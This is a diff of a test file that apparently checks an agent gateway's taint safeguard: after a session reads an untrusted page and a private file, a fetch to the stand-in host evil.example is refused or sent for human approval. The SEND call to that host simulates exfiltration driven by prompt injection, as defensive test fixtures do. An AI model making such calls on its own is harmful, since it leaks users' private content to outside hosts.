@@ -1,4 +1,4 @@
-/** Private content does not leave unasked once untrusted text was read, whatever a page tells the model. */
+/** Taint: once a session has read untrusted text and private content, a request to an unnamed host needs approval. */
 import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { type AgentBench, startBench } from '../support/agent_bench';
@@ -35,7 +35,7 @@ const FILE = () => ({ name: 'read_file', arguments: { path: 'notes.txt' } });
 const COMMAND = () => ({ name: 'bash', arguments: { command: 'cat notes.txt; exit 3' } });
 const SEND = () => ({ name: 'fetch_page', arguments: { url: EVIL } });
 
-/** A message to which the model answers with these calls, one an answer, and then with what the last one gave. */
+/** Scripts a turn: one call per answer, then a text with the last result. Returns the message that starts it. */
 function script(...calls: (() => { name: string; arguments: Record<string, unknown> })[]): string {
   const text = `task ${Math.random()}`;
   const told = ({ toolResults }: { toolResults: string[] }) => `Told: ${toolResults.at(-1)}`;
@@ -47,13 +47,16 @@ it.each([
   ['a page, then a file', [PAGE, FILE]],
   ['a file, then a page', [FILE, PAGE]],
   ['a page, then a command that failed', [PAGE, COMMAND]],
-])('[taint] after %s a request to an unnamed host is refused where no person can be asked, and the model is told', async (_what, reads) => {
-  const { body } = await bench.rest.run({ input: script(...reads, SEND) });
-  expect(body.text).toMatch(/no person can be asked.*Untrusted text and private content.*evil\.example/);
-  expect(body.toolCalls.at(-1)).toMatchObject({ ok: false });
-});
+])(
+  '[taint] after %s, a request to an unnamed host is refused when no person can be asked, and the model is told why',
+  async (_what, reads) => {
+    const { body } = await bench.rest.run({ input: script(...reads, SEND) });
+    expect(body.text).toMatch(/no person can be asked.*Untrusted text and private content.*evil\.example/);
+    expect(body.toolCalls.at(-1)).toMatchObject({ ok: false });
+  },
+);
 
-it('[taint] a person is asked, and sees the request and the calls that it could carry out', async () => {
+it('[taint] the approval shows the request and the earlier calls whose results it could leak', async () => {
   const client = await bench.connect(CAPABLE);
   const { sessionId, runId, asked, requestId } = await beAsked(client, script(PAGE, FILE, SEND));
   expect(asked.data).toMatchObject({
@@ -72,7 +75,7 @@ it('[taint] a person is asked, and sees the request and the calls that it could 
   expect((await client.endOf(runId)).data.text).toContain('a person refused this call');
 });
 
-it('[taint] a search of the web asks too, and runs after the yes', async () => {
+it('[taint] a web search needs approval too, and runs when allowed', async () => {
   const client = await bench.connect(CAPABLE);
   const search = () => ({ name: 'web_search', arguments: { query: 'the harbour plan' } });
   const { sessionId, runId, requestId } = await beAsked(client, script(PAGE, FILE, search));
@@ -87,7 +90,7 @@ it.each([
   ['the person wrote the host', () => withWords('看看www.evil.example。')],
   ['the profile names the host', () => ({ input: script(PAGE, FILE, SEND), agent: 'trusting' })],
   ['the operator allows the host to web tools', () => ({ input: script(PAGE, FILE, PAGE) })],
-])('[taint] nothing is asked when %s', async (_what, request) => {
+])('[taint] no approval is needed when %s', async (_what, request) => {
   const { body } = await bench.rest.run(request());
   expect(body.text).toMatch(/^Told: /);
   expect(body.text).not.toContain('no person can be asked');
@@ -98,14 +101,14 @@ function withWords(words: string): { input: string } {
 }
 
 it.each(['notevil.example', 'evil.example.com', 'sub.evil.example', 'me@evil.example'])(
-  '[taint] a person who wrote %s did not name evil.example',
+  '[taint] the text %s does not name the host evil.example',
   async words => {
     const { body } = await bench.rest.run(withWords(words));
     expect(body.text).toContain('no person can be asked');
   },
 );
 
-it('[taint] what was read is still known in later runs of the session, and after a crash', async () => {
+it('[taint] sources count in later runs of the session, and after a crash', async () => {
   const { body: first } = await bench.rest.run({ input: script(PAGE, FILE) });
   await bench.gateway.restart();
   const { body } = await bench.rest.run({ input: script(SEND), sessionId: first.sessionId });
@@ -114,7 +117,7 @@ it('[taint] what was read is still known in later runs of the session, and after
   expect(other.text).not.toContain('no person can be asked');
 });
 
-it('[taint] a question that a crash interrupted is asked again, and its answer counts', async () => {
+it('[taint] an approval that a crash interrupted is asked for again, and its answer counts', async () => {
   const search = () => ({ name: 'web_search', arguments: { query: 'the harbour plan' } });
   const { body } = await bench.rest.run({ input: script(PAGE, FILE, search), clarify: 'wait' }, { prefer: 'respond-async' });
   const pending = async () => {
@@ -134,7 +137,7 @@ it('[taint] a question that a crash interrupted is asked again, and its answer c
   expect(end.text).toContain('Nothing was found');
 });
 
-it('[taint] reading a kept result of the session again is no further source', async () => {
+it('[taint] reading a spill file of the session adds no source', async () => {
   const { body: first } = await bench.rest.run({ input: script(PAGE) });
   const folder = `.neta/results/${first.sessionId}`;
   await mkdir(join(bench.gateway.workspace, folder), { recursive: true });
